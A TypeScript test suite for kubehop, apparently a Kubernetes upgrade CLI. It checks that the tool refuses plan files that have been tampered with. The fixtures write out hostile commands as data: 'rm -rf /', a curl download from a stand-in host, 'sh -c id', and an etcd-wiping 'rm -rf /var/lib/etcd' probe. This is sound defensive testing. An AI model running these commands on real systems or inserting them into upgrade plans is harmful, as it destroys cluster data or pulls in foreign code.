import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { FileLock } from '../../adapters/file/file-lock.js';
import { captureCli } from '../../../test/builders/captured-cli.js';
import { runCli } from '../main.js';

const run = (argv: string[], env: Record<string, string>, confirm?: (q: string) => Promise<boolean>) => captureCli(argv, { env, ...(confirm ? { confirm } : {}) });

const stateDir = async () => ({ KUBEHOP_STATE_DIR: await mkdtemp(join(tmpdir(), 'kubehop-state-')), USER: 'tester' });

test('applies the textbook upgrade to the simulated classic cluster with live progress', async () => {
  const env = await stateDir();
  const r = await run(['apply', '--cluster', 'classic', '--to', '1.12', '--yes', '--speed', '0'], env);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /is simulated/);
  assert.match(r.stdout, /kubeadm upgrades the control plane on controlplane to v1\.12\.10/);
  assert.match(r.stdout, /node-3 uncordoned/);
  assert.match(r.stdout, /run completed/);
  const journal = JSON.parse(await readFile(join(env.KUBEHOP_STATE_DIR, 'classic.journal.json'), 'utf8'));
  assert.equal(journal.status, 'completed');
});

test('refuses a second apply while another run holds the lock, naming the holder', async () => {
  const env = await stateDir();
  const lock = new FileLock(join(env.KUBEHOP_STATE_DIR, 'classic.lock'));
  const held = await lock.acquire('alice (kubehop apply)');
  const r = await run(['apply', '--cluster', 'classic', '--to', '1.12', '--yes', '--speed', '0'], env);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /another kubehop run holds the upgrade lock: alice \(kubehop apply\) \(pid \d+ on [^)]+\) since \S+; wait for it to finish, or pass --take-over-stale-lock if that run is dead/);
  assert.doesNotMatch(r.stdout, /cordoned/);
  await held.release();
});

test('asks before changing anything and changes nothing on no', async () => {
  const env = await stateDir();
  let asked = '';
  const r = await run(['apply', '--cluster', 'classic', '--to', '1.12'], env, async (q) => {
    asked = q;
    return false;
  });
  assert.equal(r.code, 0);
  assert.match(asked, /About to upgrade "classic" v1\.11\.3 -> v1\.12\.10 in 1 hop \(v1\.12\.10\), 26 steps/);
  assert.match(r.stderr, /nothing was changed/);
  assert.equal(r.stdout, '');
});

test('refuses to apply without --yes when there is no terminal to ask on', async () => {
  const r = await run(['apply', '--cluster', 'classic', '--to', '1.12'], await stateDir());
  assert.equal(r.code, 2);
  assert.match(r.stderr, /without confirmation: no terminal to ask on — review "kubehop plan" and pass --yes/);
});

test('lists what a dry run would change and changes nothing', async () => {
  const env = await stateDir();
  const r = await run(['apply', '--cluster', 'classic', '--to', '1.12', '--dry-run'], env);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /Dry run: \d+ changes would be made/);
  assert.match(r.stdout, /controlplane: sudo kubeadm upgrade apply v1\.12\.10 --yes/);
  assert.match(r.stdout, /cordon node-1/);
});

test('ends a dry run with the summary a run prints: the forecast plan shows, the nodes it would change and each phase\'s expected time', async () => {
  const env = await stateDir();
  const plan = await run(['plan', '--cluster', 'demo', '--to', '1.37'], env);
  const headline = plan.stdout.split('\n').find((line) => line.startsWith('Expected duration: about '));
  assert.ok(headline, plan.stdout);
  const r = await run(['apply', '--cluster', 'demo', '--to', '1.37', '--dry-run'], env);
  assert.equal(r.code, 0, r.stderr);
  const summary = r.stdout.slice(r.stdout.lastIndexOf('\nDry run completed'));
  assert.match(summary, /^\nDry run completed, nothing changed: \d+ of 213 steps walked through/);
  assert.ok(summary.split('\n').includes(headline), summary);
  assert.match(summary, /^Would change:\n  cp-1, cp-2, cp-3: to control plane v1\.37\.1, kubelet v1\.37\.1\n/m);
  assert.match(summary, /^HOP +PHASE +EXPECTED\nv1\.32\.9 +before changes +\d+s\nv1\.33\.13 +control plane +\d+m\n/m);
  assert.ok(r.stdout.indexOf('Dry run: ') < r.stdout.indexOf('Dry run completed'), 'the summary comes after the list of changes');
});

test('carries out a plan written by kubehop plan -o json', async () => {
  const env = await stateDir();
  const planned = await run(['plan', '--cluster', 'classic', '--to', '1.12', '-o', 'json'], env);
  const path = join(env.KUBEHOP_STATE_DIR, 'plan.json');
  await writeFile(path, planned.stdout);
  const r = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0'], env);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /run completed/);
});

const badPlans: { name: string; edit: (plan: Record<string, unknown>) => unknown; stderr: RegExp }[] = [
  { name: 'a plan for another cluster', edit: (p) => ({ ...p, cluster: 'prod' }), stderr: /was made for cluster "prod", not "classic"/ },
  { name: 'a plan with a joined command line', edit: (p) => ({ ...p, steps: (p.steps as object[]).map((s, i) => (i === 0 ? { ...s, commands: ['rm -rf /'] } : s)) }), stderr: /steps\[0\]\.commands: expected a list of argv arrays/ },
  { name: 'a plan that skips a minor', edit: (p) => ({ ...p, steps: (p.steps as { action: string; version: string }[]).map((s) => (s.action === 'kubeadm-apply' ? { ...s, version: 'v1.13.12' } : s)) }), stderr: /does not fit cluster "classic" as it is now/ },
];
type Step = { id: string; action: string; commands: string[][]; doneIf?: string[] };
const editStep = (p: Record<string, unknown>, action: string, change: (s: Step) => Step) => ({ ...p, steps: (p.steps as Step[]).map((s) => (s.action === action ? change(s) : s)) });
// Plans edited the way a smuggler would: valid argv, valid shape, only not what kubehop plans.
const smuggled: { name: string; edit: (plan: Record<string, unknown>) => unknown; stderr: RegExp }[] = [
  { name: 'a foreign command in a step', edit: (p) => editStep(p, 'kubeadm-plan', (s) => ({ ...s, commands: [['curl', '-o', '/tmp/x', 'http://example.invalid/x']] })), stderr: /first difference: steps\[2\] \(v1\.12\/control-plane\/controlplane\/kubeadm-plan\)\.commands\[0\]\[0\]: the file has "curl", kubehop plans "kubeadm"/ },
  { name: 'an extra command after a real one', edit: (p) => editStep(p, 'kubeadm-apply', (s) => ({ ...s, commands: [...s.commands, ['sh', '-c', 'id']] })), stderr: /first difference: steps\[3\] \(v1\.12\/control-plane\/controlplane\/kubeadm-apply\)\.commands\[1\]: the file has \["sh","-c","id"\], kubehop plans nothing/ },
  { name: 'a doneIf probe that skips the etcd snapshot', edit: (p) => editStep(p, 'etcd-backup', (s) => ({ ...s, doneIf: ['true'] })), stderr: /first difference: steps\[0\] \(v1\.11\/prepare\/controlplane\/etcd-backup\)\.doneIf: the file has \["true"\], kubehop plans nothing/ },
  { name: 'a doneIf probe on a step that has none', edit: (p) => editStep(p, 'uncordon', (s) => ({ ...s, doneIf: ['rm', '-rf', '/var/lib/etcd'] })), stderr: /first difference: steps\[7\] \(v1\.12\/control-plane-kubelet\/controlplane\/uncordon\)\.doneIf: the file has \["rm","-rf","\/var\/lib\/etcd"\], kubehop plans nothing/ },
  { name: 'drain consent given as a string', edit: (p) => ({ ...p, drain: { deleteEmptyDirData: 'yes', deleteUnmanagedPods: false } }), stderr: /drain: expected \{deleteEmptyDirData: true\|false, deleteUnmanagedPods: true\|false\}/ },
  { name: 'a step run without root turned privileged', edit: (p) => editStep(p, 'wait-ready', (s) => ({ ...s, privileged: true }) as Step), stderr: /first difference: steps\[6\] \(v1\.12\/control-plane-kubelet\/controlplane\/wait-ready\)\.privileged/ },
];
for (const c of smuggled) {
  for (const mode of [[], ['--dry-run']]) {
    test(`refuses ${c.name}${mode.length > 0 ? ' in a dry run too, running nothing of it' : ''}, naming the first difference`, async () => {
      const env = await stateDir();
      const planned = JSON.parse((await run(['plan', '--cluster', 'classic', '--to', '1.12', '-o', 'json'], env)).stdout);
      const path = join(env.KUBEHOP_STATE_DIR, 'plan.json');
      await writeFile(path, JSON.stringify(c.edit(planned)));
      const r = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0', ...mode], env);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, c.stderr);
      assert.equal(r.stdout, '');
    });
  }
}

test('refuses to resume with a plan file changed since the interrupted run started, with or without its journal', async () => {
  const env = await stateDir();
  const planned = JSON.parse((await run(['plan', '--cluster', 'classic', '--to', '1.12', '-o', 'json'], env)).stdout);
  const path = join(env.KUBEHOP_STATE_DIR, 'plan.json');
  await writeFile(path, JSON.stringify(planned));
  // Stopped as SIGTERM would stop it, once the control plane is being upgraded.
  let stop: ((why: string) => void) | undefined;
  let out = '';
  const code = await runCli(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0'], {
    stdout: (t) => {
      out += t;
      if (/kubeadm-apply|kubeadm upgrades the control plane/.test(t)) stop?.('SIGTERM');
    },
    stderr: () => undefined,
    today: () => '2026-11-25',
    env,
    onStop: (listener) => ((stop = listener), () => undefined),
  });
  assert.equal(code, 1, out);
  const tampered = editStep(planned, 'uncordon', (s) => ({ ...s, doneIf: ['sh', '-c', 'id'] }));
  await writeFile(path, JSON.stringify(tampered));
  const refused = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0', '--resume'], env);
  assert.equal(refused.code, 2, refused.stderr);
  assert.match(refused.stderr, /is not the plan the interrupted run carried out, so it is refused; first difference: steps\[7\] \(v1\.12\/control-plane-kubelet\/controlplane\/uncordon\)\.doneIf/);
  await rm(join(env.KUBEHOP_STATE_DIR, 'classic.journal.json'));
  const noJournal = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0', '--resume'], env);
  assert.equal(noJournal.code, 2);
  await writeFile(path, JSON.stringify(planned));
  const resumed = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0', '--resume'], env);
  assert.equal(resumed.code, 0, resumed.stderr);
  assert.match(resumed.stdout, /run completed/);
});

const contradictions: { args: string[]; stderr: RegExp }[] = [
  { args: ['--resume', '--start-over'], stderr: /--resume and --start-over contradict each other/ },
  { args: ['--resume', '--dry-run'], stderr: /--dry-run cannot be combined with --resume/ },
];
for (const c of contradictions) {
  test(`refuses ${c.args.join(' ')} together with exit 2`, async () => {
    const r = await run(['apply', '--cluster', 'classic', '--to', '1.12', '--yes', ...c.args], await stateDir());
    assert.equal(r.code, 2);
    assert.match(r.stderr, c.stderr);
  });
}

for (const c of badPlans) {
  test(`refuses ${c.name} and changes nothing`, async () => {
    const env = await stateDir();
    const planned = JSON.parse((await run(['plan', '--cluster', 'classic', '--to', '1.12', '-o', 'json'], env)).stdout);
    const path = join(env.KUBEHOP_STATE_DIR, 'plan.json');
    await writeFile(path, JSON.stringify(c.edit(planned)));
    const r = await run(['apply', '--cluster', 'classic', '--plan', path, '--yes', '--speed', '0'], env);
    assert.equal(r.code, 2);
    assert.match(r.stderr, c.stderr);
    assert.equal(r.stdout, '');
  });
}

test('refuses an unknown drain timeout policy', async () => {
  const r = await run(['apply', '--cluster', 'classic', '--drain-timeout-policy', 'pray', '--yes'], await stateDir());
  assert.equal(r.code, 2);
  assert.match(r.stderr, /invalid --drain-timeout-policy "pray": use fail .* or skip-node/);
});

test('refuses to start on a blocking preflight finding, and starts with --ignore CODE recorded in the journal', async () => {
  const env = await stateDir();
  const path = join(env.KUBEHOP_STATE_DIR, 'cluster.yaml');
  await writeFile(path, `kind: Cluster
apiVersion: kubehop/v1
name: strict
nodes:
  - name: cp-1
    role: control-plane
    kubelet: v1.33.13
  - name: worker
    count: 2
    kubelet: v1.33.13
workloads:
  - kind: Deployment
    name: web
    replicas: 2
pdbs:
  - name: web
    selector: { matchLabels: { app: web } }
    maxUnavailable: 1
  - name: web-all
    selector: { matchLabels: { app: web } }
    minAvailable: 1
`);
  const refused = await run(['apply', '--cluster', path, '--to', '1.34', '--yes', '--speed', '0'], env);
  assert.equal(refused.code, 3);
  assert.match(refused.stderr, /preflight found 1 blocking problem; nothing was changed:\n {2}POD_HAS_SEVERAL_PDBS/);
  const preflight = await run(['preflight', '--cluster', path, '--to', '1.34'], env);
  assert.equal(preflight.code, 3);
  const forced = await run(['apply', '--cluster', path, '--to', '1.34', '--yes', '--speed', '0', '--drain-timeout', '2m', '--ignore', 'POD_HAS_SEVERAL_PDBS'], env);
  const journal = JSON.parse(await readFile(join(env.KUBEHOP_STATE_DIR, 'strict.journal.json'), 'utf8'));
  assert.deepEqual(journal.overrides.map((o: { code: string }) => o.code), ['POD_HAS_SEVERAL_PDBS']);
  // The eviction API refuses pods under two budgets, so the run fails on the drain, as preflight said.
  assert.equal(forced.code, 1);
  assert.match(forced.stderr, /more than one PodDisruptionBudget/);
});

const surgeMistakes = [
  { name: 'spare hosts for a simulated cluster', argv: ['--strategy', 'surge', '--spare-host', 'spare-1=10.0.0.20'], stderr: /--spare-host, --spare-hosts, --provision-command and --decommission-command are for live clusters: a simulated cluster \("classic"\) brings up its own new nodes/ },
  { name: 'a malformed spare host', argv: ['--strategy', 'surge', '--spare-host', '10.0.0.20'], stderr: /--spare-host: invalid spare host "10\.0\.0\.20": no NAME= before the address/ },
  { name: 'a provision command that is not a JSON array after all', argv: ['--strategy', 'surge', '--provision-command', '["/opt/new-vm",'], stderr: /invalid --provision-command: "\["\/opt\/new-vm"," starts like a JSON array but is not one/ },
  { name: 'a hook time-out without a hook', argv: ['--hook-timeout', '5m'], stderr: /--hook-timeout goes with --provision-command or --decommission-command/ },
];
for (const c of surgeMistakes) {
  test(`refuses ${c.name} with exit 2 before anything changes`, async () => {
    const env = await stateDir();
    const r = await run(['apply', '--cluster', 'classic', '--to', '1.12', '--yes', '--speed', '0', ...c.argv], env);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, c.stderr);
    assert.equal(r.stdout, '');
  });
}
test('prints dry-run commands quoted, so that they can be pasted into a shell as they are', async () => {
  const r = await run(['apply', '--cluster', 'demo', '--to', '1.33', '--dry-run'], await stateDir());
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /cp-1: sudo sed -E -i 's#\(core:\/stable:\/\)v1\\\.\[0-9\]\+\/#\\1v1\.33\/#g' \/etc\/apt\/sources\.list\.d\/kubernetes\.list\n/);
});
